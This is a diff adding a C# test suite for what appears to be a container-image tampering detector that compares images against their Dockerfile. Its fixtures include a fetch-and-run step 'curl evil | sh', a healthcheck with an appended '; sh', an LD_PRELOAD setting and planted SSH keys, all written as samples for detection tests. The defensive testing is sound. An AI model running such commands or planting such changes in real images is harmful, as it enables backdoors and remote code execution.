@@ -1,0 +1,191 @@
+using System.Text;
+using Gabion.Model;
+using Gabion.Model.Container;
+using Gabion.Readers.Container;
+using Gabion.Scan.Images;
+using Gabion.Sources.Images;
+
+namespace Gabion.Tests.Images;
+
+/// <summary>Whether an image is what a Dockerfile makes, in the histories that the builders write.</summary>
+public sealed class ImageComparisonTests
+{
+    private const string File = """
+        FROM docker.io/library/golang:1.24 AS build
+        RUN go build -o /out/app
+
+        FROM scratch
+        ARG VERSION=3
+        ENV MODE=production NAME="two words"
+        LABEL team="core team"
+        WORKDIR /srv
+        COPY conf/ /srv/conf/
+        COPY --from=build /out/app /srv/app
+        ADD data.tar.gz https://example.org/x.bin /opt/
+        RUN ["/srv/app", "--init", "$VERSION"]
+        USER 1000
+        EXPOSE 8080/tcp
+        HEALTHCHECK --interval=5s CMD ["/srv/app", "--check"]
+        ENTRYPOINT ["/srv/app"]
+        CMD ["-v"]
+        """;
+
+    private static readonly string Settings = """
+        {"User":"1000","ExposedPorts":{"8080/tcp":{}},"Env":["PATH=/usr/bin","MODE=production","NAME=two words"],"Entrypoint":["/srv/app"],"Cmd":["-v"],"WorkingDir":"/srv",
+         "Labels":{"team":"core team","io.buildah.version":"1"},"Healthcheck":{"Interval":5000000000,"Test":["CMD","/srv/app","--check"]}}
+        """;
+
+    private static readonly Dictionary<string, string[]> Histories = new(StringComparer.Ordinal)
+    {
+        ["classic"] =
+        [
+            "-/bin/sh -c #(nop)  ARG VERSION=3", "-/bin/sh -c #(nop)  ENV MODE=production NAME=two words", "-/bin/sh -c #(nop)  LABEL team=core team", "/bin/sh -c #(nop) WORKDIR /srv",
+            "/bin/sh -c #(nop) COPY dir:0123 in /srv/conf/ ", "/bin/sh -c #(nop) COPY file:4567 in /srv/app ", "/bin/sh -c #(nop) ADD multi:89ab in /opt/ ", "|1 VERSION=3 /srv/app --init $VERSION",
+            "-/bin/sh -c #(nop)  USER 1000", "-/bin/sh -c #(nop)  EXPOSE 8080/tcp", "-/bin/sh -c #(nop)  HEALTHCHECK &{[\"CMD\" \"/srv/app\" \"--check\"] \"5s\" \"0s\" \"0s\" '\\x00'}",
+            "-/bin/sh -c #(nop)  ENTRYPOINT [\"/srv/app\"]", "-/bin/sh -c #(nop)  CMD [\"-v\"]",
+        ],
+        ["buildkit"] =
+        [
+            "-ARG VERSION=3", "-ENV MODE=production NAME=two words", "-LABEL team=core team", "WORKDIR /srv", "COPY conf/ /srv/conf/ # buildkit", "COPY /out/app /srv/app # buildkit",
+            "ADD data.tar.gz https://example.org/x.bin /opt/ # buildkit", "RUN |1 VERSION=3 /srv/app --init $VERSION # buildkit", "-USER 1000", "-EXPOSE [8080/tcp]",
+            "-HEALTHCHECK &{[\"CMD\" \"/srv/app\" \"--check\"] \"5s\" \"0s\" \"0s\" \"0s\" '\\x00'}", "-ENTRYPOINT [\"/srv/app\"]", "-CMD [\"-v\"]",
+        ],
+        ["buildah"] =
+        [
+            "-/bin/sh -c #(nop) ARG VERSION=3", "-/bin/sh -c #(nop) ENV MODE=production NAME=\"two words\"", "-/bin/sh -c #(nop) LABEL team=\"core team\"", "/bin/sh -c #(nop) WORKDIR /srv",
+            "/bin/sh -c #(nop) COPY dir:0123 in /srv/conf/ ", "/bin/sh -c #(nop) COPY file:4567 in /srv/app ", "/bin/sh -c #(nop) ADD multi:89ab in /opt/ ", "|1 VERSION=3 /srv/app --init $VERSION",
+            "-/bin/sh -c #(nop) USER 1000", "-/bin/sh -c #(nop) EXPOSE 8080/tcp", "-/bin/sh -c #(nop) HEALTHCHECK --interval=5s CMD [\"/srv/app\", \"--check\"]",
+            "-/bin/sh -c #(nop) ENTRYPOINT [\"/srv/app\"]", "-/bin/sh -c #(nop) CMD [\"-v\"]",
+        ],
+        ["kaniko"] =
+        [
+            "WORKDIR /srv", "COPY conf/ /srv/conf/", "COPY --from=build /out/app /srv/app", "ADD data.tar.gz https://example.org/x.bin /opt/", "RUN [\"/srv/app\", \"--init\", \"$VERSION\"]",
+        ],
+    };
+
+    public static TheoryData<string> Builders => [.. Histories.Keys];
+
+    private static readonly Dictionary<string, string> Context = new(StringComparer.Ordinal) { ["conf/a.yaml"] = "a: 1", ["conf/sub/b.yaml"] = "b: 2" };
+
+    // WORKDIR, COPY, COPY --from, ADD, RUN
+    private static string[][] Layers() => [["srv/"], ["srv/conf/a.yaml=a: 1", "srv/conf/sub/b.yaml=b: 2"], ["srv/app=program"], ["opt/unpacked=1", "opt/x.bin=2"], ["var/anything=made by RUN"]];
+
+    [Theory]
+    [MemberData(nameof(Builders))]
+    public async Task A_clean_image_is_explained(string builder)
+    {
+        var comparison = await CompareAsync(builder, Layers());
+        Assert.Equal([], Told(comparison));
+        Assert.False(comparison.IsTampered);
+        Assert.Null(comparison.Doubt);
+    }
+
+    [Theory]
+    [MemberData(nameof(Builders))]
+    public async Task Files_that_no_instruction_explains_are_told(string builder)
+    {
+        var layers = Layers();
+        layers[0] = ["srv/", "srv/stray=x"];
+        layers[1] = ["srv/conf/a.yaml=a: 666", "srv/conf/new.yaml=x", "usr/bin/implant=x", "etc/.wh.shadow="];
+        layers[2] = ["srv/app=program", "srv/.app.so=x"];
+        layers[3] = ["opt/unpacked=1", "root/.ssh/authorized_keys=x"];
+        var comparison = await CompareAsync(builder, layers);
+        Assert.Equal(
+            [
+                "/srv/stray: WORKDIR makes no files",
+                "/srv/conf/a.yaml: its content is not that of the build context",
+                "/srv/conf/new.yaml: the build context has no such file",
+                "/usr/bin/implant: no instruction puts a file there",
+                "/etc/shadow: it is deleted, and no instruction deletes it",
+                "/srv/.app.so: no instruction puts a file there",
+                "/root/.ssh/authorized_keys: no instruction puts a file there",
+            ],
+            comparison.Files.Select(text => text[..text.IndexOf(" (layer", StringComparison.Ordinal)]));
+    }
+
+    [Theory]
+    [MemberData(nameof(Builders))]
+    public async Task A_layer_without_a_step_leaves_doubt(string builder)
+    {
+        var comparison = await CompareAsync(builder, [.. Layers(), ["usr/bin/implant=x"]]);
+        Assert.Contains("layers", comparison.Doubt, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [MemberData(nameof(Builders))]
+    public async Task A_step_that_was_added_or_changed_is_told(string builder)
+    {
+        var run = builder switch { "buildkit" => "RUN /bin/sh -c curl evil | sh # buildkit", "kaniko" => "RUN curl evil | sh", _ => "/bin/sh -c curl evil | sh" };
+        var added = await CompareAsync(builder, [.. Layers(), ["usr/bin/implant=x"]], history: [.. Histories[builder], run]);
+        Assert.Equal(["RUN curl evil | sh"], added.Steps.Where(step => step.Likeness == Likeness.Extra).Select(step => step.Step!.Instruction));
+        var changed = await CompareAsync(builder, Layers(), history: [.. Histories[builder].Select(line => line.Contains("--init", StringComparison.Ordinal) ? run : line)]);
+        Assert.Equal([Likeness.Differs], changed.Steps.Where(step => step.Likeness != Likeness.Same).Select(step => step.Likeness));
+    }
+
+    [Theory]
+    [InlineData("\"User\":\"1000\"", "\"User\":\"0\"", "USER is 0 in the image, 1000 in the Dockerfile")]
+    [InlineData("[\"/srv/app\"],\"Cmd\"", "[\"/srv/.app\"],\"Cmd\"", "ENTRYPOINT is /srv/.app in the image, /srv/app in the Dockerfile (line 16)")]
+    [InlineData("[\"-v\"]", "[\"-v\",\"-x\"]", "CMD is -v -x in the image, -v in the Dockerfile (line 17)")]
+    [InlineData("MODE=production", "MODE=debug", "ENV MODE is another in the image")]
+    [InlineData("\"PATH=/usr/bin\"", "\"PATH=/usr/bin\",\"LD_PRELOAD=/x.so\"", "ENV LD_PRELOAD is set in the image, and no instruction sets it")]
+    [InlineData("core team", "others", "LABEL team is 'others' in the image, 'core team' in the Dockerfile")]
+    [InlineData("8080/tcp", "22/tcp", "EXPOSE 8080/tcp is missing in the image; EXPOSE 22/tcp is set in the image, and no instruction sets it")]
+    [InlineData("\"--check\"]", "\"--check\",\"; sh\"]", "HEALTHCHECK is /srv/app --check ; sh in the image, another in the Dockerfile (line 15)")]
+    [InlineData("\"WorkingDir\":\"/srv\"", "\"WorkingDir\":\"/tmp\"", "WORKDIR is /tmp in the image, /srv in the Dockerfile")]
+    [InlineData("{\"User\"", "{\"OnBuild\":[\"RUN evil\"],\"User\"", "ONBUILD RUN evil is set in the image, and no instruction sets it")]
+    [InlineData("{\"User\"", "{\"Volumes\":{\"/etc\":{}},\"User\"", "VOLUME /etc is set in the image, and no instruction sets it")]
+    public async Task Changed_settings_are_told_whatever_the_history_says(string before, string after, string expected)
+    {
+        foreach (var builder in Histories.Keys)
+        {
+            var comparison = await CompareAsync(builder, Layers(), Settings.Replace(before, after, StringComparison.Ordinal));
+            Assert.Equal(expected, string.Join("; ", comparison.Settings));
+        }
+    }
+
+    /// <summary>Without <c>--layers</c> buildah writes the files of a whole stage as the layer of its last instruction.</summary>
+    [Fact]
+    public async Task A_stage_in_one_layer_is_that_of_all_its_instructions()
+    {
+        const string Two = "FROM scratch\nCOPY conf/ /srv/conf/\nADD x.tar /opt/\nUSER 1000\nCMD [\"/srv/run\"]\n";
+        string[] history = ["-/bin/sh -c #(nop) COPY dir:0123 in /srv/conf/ ", "-/bin/sh -c #(nop) ADD file:4567 in /opt/ ", "-/bin/sh -c #(nop) USER 1000", "/bin/sh -c #(nop) CMD [\"/srv/run\"]"];
+        const string Set = """{"User":"1000","Cmd":["/srv/run"]}""";
+        Assert.Equal([], Told(await CompareAsync("buildah", [["srv/conf/a.yaml=a: 1", "opt/d=1"]], Set, history, Two)));
+        Assert.Equal(["/usr/bin/implant: no instruction puts a file there (layer 1, CMD [\"/srv/run\"])"], Told(await CompareAsync("buildah", [["srv/conf/a.yaml=a: 1", "usr/bin/implant=x"]], Set, history, Two)));
+    }
+
+    [Theory]
+    [InlineData("etc/motd=hello\n", "")]
+    [InlineData("etc/motd=hallo\n", "/etc/motd: its content is not that of the Dockerfile (layer 1, COPY <<EOF /etc/motd)")]
+    [InlineData("etc/other=hello\n", "/etc/other: no instruction puts a file there (layer 1, COPY <<EOF /etc/motd)")]
+    public async Task The_text_of_a_heredoc_is_compared(string file, string expected)
+    {
+        var comparison = await CompareAsync("buildkit", [[file], ["var/x=1"]], "{}", ["COPY <<EOF /etc/motd # buildkit", "RUN /bin/sh -c echo one\necho two\n # buildkit"],
+            "FROM scratch\nCOPY <<EOF /etc/motd\nhello\nEOF\nRUN <<EOT\necho one\necho two\nEOT\n");
+        Assert.Equal(expected, string.Join("; ", Told(comparison)));
+    }
+
+    [Theory]
+    [InlineData("app/secret.env", true)]
+    [InlineData("app/keep.env", false)]
+    [InlineData("node_modules/x/y.js", true)]
+    [InlineData("app/node_modules/x.js", false)]
+    [InlineData("app/a.log", true)]
+    [InlineData("a.txt", false)]
+    public void Dockerignore_counts_from_the_root_and_the_last_rule_decides(string path, bool isOut) =>
+        Assert.Equal(isOut, new ContextIgnore("# comment\n\n/node_modules\n**/*.log\napp/*.env\n!app/keep.env\n").Excludes(path));
+
+    private static IEnumerable<string> Told(ImageComparison comparison) =>
+        comparison.Steps.Where(step => step.Likeness != Likeness.Same).Select(step => $"{step.Likeness} {step.Instruction ?? step.Step!.Instruction}: {step.Reason}").Concat(comparison.Settings).Concat(comparison.Files);
+
+    private static async Task<ImageComparison> CompareAsync(string builder, string[][] layers, string? settings = null, string[]? history = null, string? file = null)
+    {
+        var image = new MadeImage([.. layers.Select(MadeLayer.Of)]) { Settings = settings ?? Settings, Author = builder == "kaniko" ? "kaniko" : null };
+        image.History.AddRange(history ?? Histories[builder]);
+        using var source = ImageTarget.OfStream(new MemoryStream(image.DockerArchive()), out _);
+        var opened = Assert.IsType<ImageResult.Opened>(await source!.OpenAsync(ImageChoice.Only, TestContext.Current.CancellationToken));
+        var reading = await ImageReading.ReadAsync(opened.Image, _ => NoContent.Instance, LayerLimits.Default with { HashesFiles = true }, 2, TestContext.Current.CancellationToken);
+        var dockerfile = new DockerfileReader().Read(new SourceFile("Dockerfile"), Encoding.UTF8.GetBytes(file ?? File)).Facts.OfType<Dockerfile>().Single();
+        return ImageComparison.Create(reading, dockerfile, 0, path => Context.TryGetValue(path, out var text) ? Digest.OfSha256(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(text))) : null);
+    }
+}
